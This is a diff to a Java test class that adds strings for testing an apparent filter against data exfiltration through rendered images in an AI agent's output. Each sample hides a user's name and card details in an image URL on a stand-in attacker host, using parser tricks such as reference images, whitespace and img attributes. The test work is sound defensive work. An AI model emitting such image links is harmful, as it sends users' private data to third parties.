@@ -205,6 +205,20 @@ class AgentPresetTest {
                         + "![b](https://collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
                 // ... unless it is written in <>: then spaces and all, to its '>'
                 "Done. ![a](<https://collect.attacker.example/p.gif?q=alice smith card ending 4111 meeting at 9>)",
+                // white space (a line break, a tab) between "(" and the destination
+                "Done. ![logo](\nhttps://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
+                "Done. ![logo](\thttps://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
+                // reference images: collapsed, shortcut, the destination on the next line, labels matched as CommonMark
+                "Done. ![x][]\n\n[x]: https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ",
+                "Done. ![x]\n\n[x]: https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ",
+                "Done. ![logo][x]\n\n[x]:\nhttps://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ",
+                "Done. ![logo][X  Y]\n\n[x y]: https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ",
+                // an <img> whose earlier attribute holds '>' or '<'
+                "<img alt=\"a>b\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "<img alt='a<b' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                // an alt text of any length
+                "![" + "a".repeat(510)
+                        + "](https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
                 // a backslash decoded from %5C escapes nothing: the real ')' ends image a, image b is fetched
                 "Done. ![a](https://cdn.example.com/a.png?v=%5C) ![b](https://collect.attacker.example/"
                         + "QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQQWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
